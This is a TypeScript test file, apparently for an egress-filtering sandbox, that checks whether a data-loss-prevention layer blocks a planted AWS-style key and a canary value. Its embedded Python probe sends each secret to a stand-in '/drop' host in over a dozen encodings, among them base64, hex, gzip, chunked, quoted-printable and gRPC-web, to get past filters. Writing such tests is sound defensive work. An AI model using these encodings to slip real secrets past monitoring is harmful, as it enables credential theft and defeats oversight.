// A planted key and a canary leave in many spellings. Source: EGRESS L rows; pipelock.
import { expect } from 'vitest';
import { forEachTier } from '../support/attack.ts';
import { EgressBox } from '../support/egress-box.ts';

const SPELLINGS = [
  'raw',
  'base64',
  'base64url',
  'hex',
  'HEX',
  'gzip',
  'json',
  'unicode',
  'url',
  'twice',
  'multipart',
  'form',
];

forEachTier('a planted key and a canary are refused in every spelling', async (tier) => {
  await using box = new EgressBox(tier, { dlp: true });
  const result = await box.probe(`
import urllib.parse, zlib
key = 'AKIA' + 'Q7XW2M4N6P3R5T2V'
for what, text in (('key', f'aws_access_key_id={key}'), ('canary', os.environ['CANARY'])):
    data = text.encode()
    quoted = ''.join(f'\\\\u{ord(letter):04x}' for letter in text)
    bodies = dict(
        raw=data, base64=base64.b64encode(data), base64url=base64.urlsafe_b64encode(b'x' + data), hex=data.hex().encode(),
        HEX=data.hex().upper().encode(), gzip=gzip.compress(data), json=json.dumps({'a': {'b': text}}).encode(),
        unicode=('{"a":"' + quoted + '"}').encode(), url=urllib.parse.quote(text, safe='').replace('-', '%2D').encode(),
        twice=base64.b64encode(base64.b64encode(data)),
        multipart=b'--b\\r\\nContent-Disposition: form-data; name="f"\\r\\n\\r\\n' + data + b'\\r\\n--b--\\r\\n',
        form=b'a=' + urllib.parse.quote(text, safe='').encode())
    for name, body in bodies.items():
        ask(f'{what}-{name}', host=OTHER, target='/drop', lines=(), body=body)
    pieces = b''.join(b'%x\\r\\n%s\\r\\n' % (1, bytes([one])) for one in data)
    raw(f'{what}-chunks', head('POST', '/drop', ('Connection: close', 'Transfer-Encoding: chunked'), OTHER) + pieces + b'0\\r\\n\\r\\n', OTHER)
    quoted = b''.join(b'=%02X' % one for one in data)
    ask(f'{what}-quoted', host=OTHER, target='/drop', lines=('Content-Type: multipart/form-data; boundary=b',),
        body=b'--b\\r\\nContent-Disposition: form-data; name="f"\\r\\nContent-Transfer-Encoding: quoted-printable\\r\\n\\r\\n' + quoted + b'\\r\\n--b--\\r\\n')
    packed = zlib.compress(data)
    ask(f'{what}-message', host=OTHER, target='/drop', lines=('Content-Type: application/grpc-web', 'grpc-encoding: deflate'),
        body=b'\\1' + struct.pack('>I', len(packed)) + packed)
control()
`);
  const names = ['key', 'canary'].flatMap((what) =>
    [...SPELLINGS, 'chunks', 'quoted', 'message'].map((name) => `${what}-${name}`),
  );
  box.expectHeld(result, Object.fromEntries(names.map((name) => [name, '403 network.dlp'])));
  const kinds = box.refusals().flatMap((data) => JSON.stringify(data['dlp']));
  expect(kinds.filter((text) => text.includes('canary')).length).toBeGreaterThan(10);
  expect(JSON.stringify(box.refusals())).not.toContain(box.canary);
});
